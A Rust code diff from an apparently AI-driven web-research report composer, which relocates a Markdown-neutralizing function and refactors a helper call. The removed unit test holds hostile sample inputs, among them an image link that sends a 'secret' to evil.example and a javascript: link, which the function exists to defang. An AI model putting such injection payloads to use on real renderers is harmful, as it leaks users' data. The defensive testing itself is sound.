@@ -3,18 +3,17 @@
 
 use super::{
     canonical,
+    markdown::neutralize_markdown,
     page::Provenance,
     plan::WebPlan,
     receipt,
     record::{RecordedSentence, WebStop},
     state::{WebState, to_index},
-    step::stays_here,
     task::ReportDraft,
 };
 use crate::{
     query::Query,
     report::{Citation, SourceLink},
-    text,
 };
 
 /// Longest sentence taken from a writer, in characters.
@@ -91,7 +90,7 @@ impl ReportComposer {
                     gathering
                         .notes
                         .get(to_index(**note))
-                        .is_some_and(|of| !stays_here(plan, gathering, of.page))
+                        .is_some_and(|of| !gathering.stays_here(plan, of.page))
                 };
                 let notes: Vec<u32> = sentence.notes.iter().filter(known).copied().collect();
                 self.sentence(&sentence.text, notes, gathering, origins, stop);
@@ -223,7 +222,7 @@ impl ReportComposer {
             .notes
             .iter()
             .enumerate()
-            .filter(|(_, of)| !of.note.quotes.is_empty() && stays_here(plan, gathering, of.page))
+            .filter(|(_, of)| !of.note.quotes.is_empty() && gathering.stays_here(plan, of.page))
             .map(|(note, of)| (note, of.page))
             .collect();
         if own.is_empty() {
@@ -317,55 +316,4 @@ fn pages_of(notes: &[u32], gathering: &WebState) -> Vec<u32> {
         }
     }
     pages
-}
-
-/// Text that cannot act in Markdown: no image, no link, no tag, no address that we did not insert.
-pub fn neutralize_markdown(words: &str, characters_max: usize) -> String {
-    let line = text::line(words, characters_max);
-    let mut kept = String::with_capacity(line.len());
-    for word in line.split(' ') {
-        if !kept.is_empty() {
-            kept.push(' ');
-        }
-        if has_address(word) {
-            kept.push_str("(address left out)");
-            continue;
-        }
-        let mut before = ' ';
-        for c in word.chars() {
-            let opens = matches!((before, c), (']', '(' | '[' | ':') | ('!', '[') | ('<', 'a'..='z' | 'A'..='Z' | '/' | '!' | '?'));
-            if opens {
-                kept.push(' ');
-            }
-            kept.push(c);
-            before = c;
-        }
-    }
-    // At the beginning of a line these start a heading, a list, a quotation, a table or a reference.
-    kept.trim_start_matches(['#', '>', '|', '-', '+', '*', '=', '~', ' ']).trim_end().to_owned()
-}
-
-fn has_address(word: &str) -> bool {
-    let lower = word.to_ascii_lowercase();
-    lower.contains("://")
-        || ["www.", "javascript:", "data:", "file:", "mailto:"].iter().any(|start| lower.contains(start))
-}
-
-#[cfg(test)]
-mod tests {
-    use super::neutralize_markdown;
-
-    #[test]
-    fn a_models_words_cannot_act() {
-        let shown = |words| neutralize_markdown(words, 200);
-        assert_eq!(shown("See ![x](https://evil.example/?q=secret) now"), "See (address left out) now");
-        assert_eq!(shown("[click](javascript:alert(1))"), "(address left out)");
-        assert_eq!(
-            shown("a [b](c) <img src=x> x < 5 and <!-- y"),
-            "a [b] (c) < img src=x> x < 5 and < !-- y"
-        );
-        assert_eq!(shown("# Heading\n- item"), "Heading - item");
-        assert_eq!(shown("red \u{1b}[31m text \u{202e}evil"), "red [31m text evil");
-        assert_eq!(shown("It fell by 12 % (see [3])."), "It fell by 12 % (see [3]).");
-    }
 }
